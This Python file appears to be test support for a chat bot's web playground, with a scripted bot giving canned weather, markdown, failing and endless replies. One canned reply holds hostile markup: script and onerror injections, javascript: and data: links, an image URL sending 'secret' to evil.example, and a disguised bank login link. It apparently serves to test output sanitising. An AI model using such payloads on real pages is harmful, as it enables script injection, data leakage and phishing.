"""A bot with fixed answers behind the playground: an inbox and a worker in memory, and the contract
of the port checked at each call. Answers grow at a pace that an eye and a test can follow."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field

from adapters.web.adapter import WebPlatform
from bot.errors import StoreUnavailable
from bot.events import (
    ControlEvent,
    Delete,
    Leave,
    Message,
    Regenerate,
    Relevance,
    Reset,
    Stop,
    TurnEvent,
    identity,
)
from bot.platform import Batch, Controlled, Part, Stored
from bot.replies import (
    Done,
    Failed,
    Reply,
    TextDelta,
    ToolFinished,
    ToolStarted,
)


@dataclass
class MemoryReceipt:
    """A receipt that keeps what it is told and checks the order."""

    key: str
    known: dict[int, str] = field(default_factory=dict)
    log: list[str] = field(default_factory=list)
    lost: BaseException | None = None

    @property
    def parts(self) -> tuple[Part, ...]:
        return tuple(Part(index, id) for index, id in sorted(self.known.items()))

    def check(self) -> None:
        if self.lost:
            raise self.lost

    async def posting(self, index: int) -> None:
        self.check()
        self.log.append(f"posting {index}")
        self.known.setdefault(index, "")

    async def posted(self, index: int, id: str) -> None:
        self.check()
        assert index in self.known, "posted without the intent"
        self.log.append(f"posted {index}")
        self.known[index] = id

    async def removed(self, index: int) -> None:
        self.known.pop(index)


Script = Callable[[Batch], AsyncIterator[Reply]]


class ScriptedBot:
    """The `Sink` of the playground and, unless `works` is False, its worker."""

    def __init__(self, platform: WebPlatform, script: Script, *, works: bool = True) -> None:
        self.platform = platform
        self.script = script
        self.works = works
        self.away = False
        self.events: list[TurnEvent] = []
        self.controls: list[ControlEvent] = []
        self.answer_control: dict[type, Controlled] = {}
        self.answer_put: Stored | None = None
        self._identities: set[str] = set()
        self._joined: set[str] = set()
        self._turns: dict[str, asyncio.Task[None]] = {}
        self._running: dict[str, asyncio.Event] = {}

    async def put(self, event: TurnEvent) -> Stored:
        if self.away:
            raise StoreUnavailable("away")
        if isinstance(event, Message):
            shown = await self.platform._messages.get(event.id)
            assert shown is not None, "a message is put before it is shown"
        if identity(event) in self._identities:
            return Stored.KNOWN
        if self.answer_put:
            return self.answer_put
        outcome = self._outcome(event)
        if outcome is Stored.STORED:
            self._identities.add(identity(event))
            self._joined.add(event.thread.key)
            self.events.append(event)
            if self.works:
                self._begin(event)
        return outcome

    def _outcome(self, event: TurnEvent) -> Stored:
        joined = event.thread.key in self._joined
        if not isinstance(event, Message) or event.relevance is Relevance.DIRECT:
            return Stored.STORED
        if event.relevance is Relevance.IF_JOINED and joined:
            return Stored.STORED
        return Stored.REMEMBERED if joined else Stored.DROPPED

    async def control(self, event: ControlEvent) -> Controlled:
        if self.away:
            raise StoreUnavailable("away")
        self.controls.append(event)
        if type(event) in self.answer_control:
            return self.answer_control[type(event)]
        match event:
            case Stop():
                stop = self._running.get(event.thread.key)
                if stop is None:
                    return Controlled.NOTHING
                stop.set()
            case Leave() | Reset():
                self._joined.discard(event.thread.key)
            case Delete():
                pass
        return Controlled.DONE

    def _begin(self, event: TurnEvent) -> None:
        before = self._turns.get(event.thread.key)
        task = asyncio.create_task(self._turn(event, before))
        self._turns[event.thread.key] = task

    async def _turn(self, event: TurnEvent, before: asyncio.Task[None] | None) -> None:
        if before is not None:
            await asyncio.wait([before])
        batch = Batch(event.thread, (event,))
        stop = self._running[event.thread.key] = asyncio.Event()
        receipt = MemoryReceipt(identity(event))
        try:
            replies = until_stopped(self.script(batch), stop)
            await self.platform.deliver(batch, replies, receipt)
        finally:
            self._running.pop(event.thread.key, None)

    async def close(self) -> None:
        for task in self._turns.values():
            task.cancel()
        if self._turns:
            await asyncio.wait(self._turns.values())


async def until_stopped(replies: AsyncIterator[Reply], stop: asyncio.Event) -> AsyncIterator[Reply]:
    """Pass replies on; after a press of Stop, end with what there is."""
    text = ""
    async for reply in replies:
        if isinstance(reply, TextDelta):
            text += reply.text
        yield reply
        if stop.is_set() and not isinstance(reply, Done | Failed):
            yield Done(text, stopped=True)
            return


WEATHER = (
    "In **Beijing** (China) it is **7 °C** and clear, with a light wind from the north. "
    "It is **09:42** there, Saturday 21 November.\n\n"
    "| | Today | Sunday | Monday |\n|---|---:|---:|---:|\n"
    "| High | 9 °C | 11 °C | 6 °C |\n| Low | −2 °C | 0 °C | −4 °C |\n"
    "| Rain | 0 % | 10 % | 35 % |\n\n"
    "Weather data by [Open-Meteo](https://open-meteo.com/)."
)

MARKDOWN = """# Plan

Here is **bold**, *italic*, ~~gone~~ and `code`; see <https://example.org/docs>
or [the guide](https://example.org/guide).

1. First
   - nested one
   - nested two
2. Second

- [x] write it
- [ ] ship it

> A quote
> over two lines

```python
def hello(name: str) -> str:
    return f"Hello, {name}!"  # a long comment that needs some room
```

| Name | Value |
|:-----|------:|
| one  | 1     |
| two  | 22    |
"""

HOSTILE = """<img src=x onerror="window.pwned=1"> <script>window.pwned=1</script>

[click](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>)
![pic](https://evil.example/p.png?d=secret)

[https://bank.example/](https://evil.example/login)
<a href="https://evil.example">x</a> @everyone
"""


async def script(batch: Batch) -> AsyncIterator[Reply]:
    """Answer by a word of the question."""
    event = batch.last
    text = event.text if isinstance(event, Message) else ""
    if isinstance(event, Regenerate):
        text = "Another answer, freshly made."
        answer = slowly(text)
    elif "weather" in text:
        answer = weather()
    elif "markdown" in text:
        answer = slowly(MARKDOWN)
    elif "hostile" in text:
        answer = slowly(HOSTILE)
    elif "forever" in text:
        answer = slowly("And so it went on, word by word, without an end. " * 400, pause=0.03)
    elif "fail" in text:
        answer = failing()
    else:
        answer = slowly(f"You said: {text}")
    async for reply in answer:
        yield reply


async def slowly(text: str, pause: float = 0.01) -> AsyncIterator[Reply]:
    words = text.split(" ")
    for index, word in enumerate(words):
        await asyncio.sleep(pause)
        yield TextDelta(word if index == 0 else f" {word}")
    yield Done(text)


async def weather() -> AsyncIterator[Reply]:
    yield ToolStarted("1", "weather", "Looking up the weather in Beijing")
    yield ToolStarted("2", "time", "Looking up the time in Beijing")
    await asyncio.sleep(0.25)
    yield ToolFinished("2", "time", True, "09:42, UTC+8")
    await asyncio.sleep(0.25)
    yield ToolFinished("1", "weather", True, "7 °C, clear")
    async for reply in slowly(WEATHER):
        yield reply


async def failing() -> AsyncIterator[Reply]:
    yield TextDelta("The first half of an ans")
    await asyncio.sleep(0.05)
    yield Failed(
        "The model stopped answering. Ask again in a minute.", "model", "The first half of an ans"
    )
